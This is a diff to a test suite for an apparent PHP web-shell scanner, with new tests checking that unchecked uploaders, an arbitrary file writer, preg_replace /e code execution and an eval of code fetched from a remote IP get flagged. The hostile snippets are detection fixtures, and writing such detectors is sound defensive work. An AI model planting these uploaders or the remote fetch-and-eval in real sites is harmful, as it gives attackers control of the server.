@@ -602,10 +602,11 @@ def test_upload_form_choosing_the_directory_is_a_shell_tool(eng):
            b"    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path'] . '/' . $_FILES['f']['name']);\n"
            b"    echo 'ok';\n}\n?>\n" + UPLOADER_FORM)
     v = eng.analyse(src, '/var/www/html/u.php')
-    assert v.suspicious and rules(v) == {'php.write.request_path'}, v
-    # the same call without a form of its own on the page is only the single write hit
+    assert v.suspicious and rules(v) == {'php.write.request_path', 'php.write.unchecked'}, v
+    # the same call without a form of its own on the page: the write and that nothing about
+    # the upload is checked (a stand-alone uploader)
     v = eng.analyse(src[:src.index(b'?>')], '/var/www/html/u2.php')
-    assert not v.suspicious and v.score == 8, v
+    assert v.suspicious and v.score == 12, v
 
 
 def test_avatar_upload_to_a_fixed_directory_is_clean(eng):
@@ -707,3 +708,35 @@ def test_preg_replace_whose_e_modifier_is_spelled_with_chr(eng):
     near = (b"<?php\n$m = array(chr(105));\n"
             b"$out = preg_replace(chr(47) . 'x' . chr(47) . $m[0], htmlspecialchars($_POST['r']), 'x');\n")
     assert not eng.analyse(near, '/var/www/html/q.php').suspicious
+
+
+def test_standalone_uploader_that_never_checks_what_it_stores(eng):
+    for src in (b"<?php\nif (isset($_POST['go'])) {\n"
+                b"  copy($_FILES['f']['tmp_name'], $_POST['to']);\n  echo 'done';\n}\n?>\n"
+                b"<form method=post enctype=multipart/form-data><input type=file name=f>"
+                b"<input name=to><input type=submit name=go></form>\n",
+                b"<?php\n$h = fopen($_POST['n'], 'w'); fwrite($h, $_POST['c']); fclose($h);\n"):
+        v = eng.analyse(src, '/var/www/html/u.php')
+        assert v.suspicious and 'php.write.unchecked' in rules(v), v
+    # near-miss: an avatar handler that checks the image and picks the name itself
+    near = (b"<?php\n$info = getimagesize($_FILES['avatar']['tmp_name']);\n"
+            b"if ($info && in_array($info[2], array(IMAGETYPE_PNG, IMAGETYPE_JPEG))) {\n"
+            b"  move_uploaded_file($_FILES['avatar']['tmp_name'], 'avatars/' . md5($_POST['user']) . '.png');\n}\n")
+    v = eng.analyse(near, '/var/www/html/avatar.php')
+    assert not v.suspicious and 'php.write.unchecked' not in rules(v), v
+
+
+def test_preg_replace_e_with_code_from_elsewhere_and_eval_of_fetched_code(eng):
+    v = eng.analyse(b"<?php\n$a = gzinflate($_SESSION['x']);\npreg_replace('/.*/e', $a, '');\n",
+                    '/var/www/html/p.php')
+    assert v.suspicious and 'php.preg_replace.eval_modifier' in rules(v), v
+    # an old application's /e with a literal template stays below the threshold
+    old = b"<?php\n$t = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $title);\n"
+    assert not eng.analyse(old, '/var/www/html/old.php').suspicious
+    v = eng.analyse(b"<?php\n$code = file_get_contents('http://198.51.100.7/x.txt');\n@eval($code);\n",
+                    '/var/www/html/m.php')
+    assert v.suspicious and 'php.code.fetched_code' in rules(v), v
+    # near-miss: an API client that fetches JSON and evaluates nothing it fetched
+    near = (b"<?php\n$body = file_get_contents('https://api.example.org/v1/rates');\n"
+            b"$rates = json_decode($body, true);\n$tpl = 'return 1;';\n$one = eval($tpl);\n")
+    assert not eng.analyse(near, '/var/www/html/rates.php').suspicious
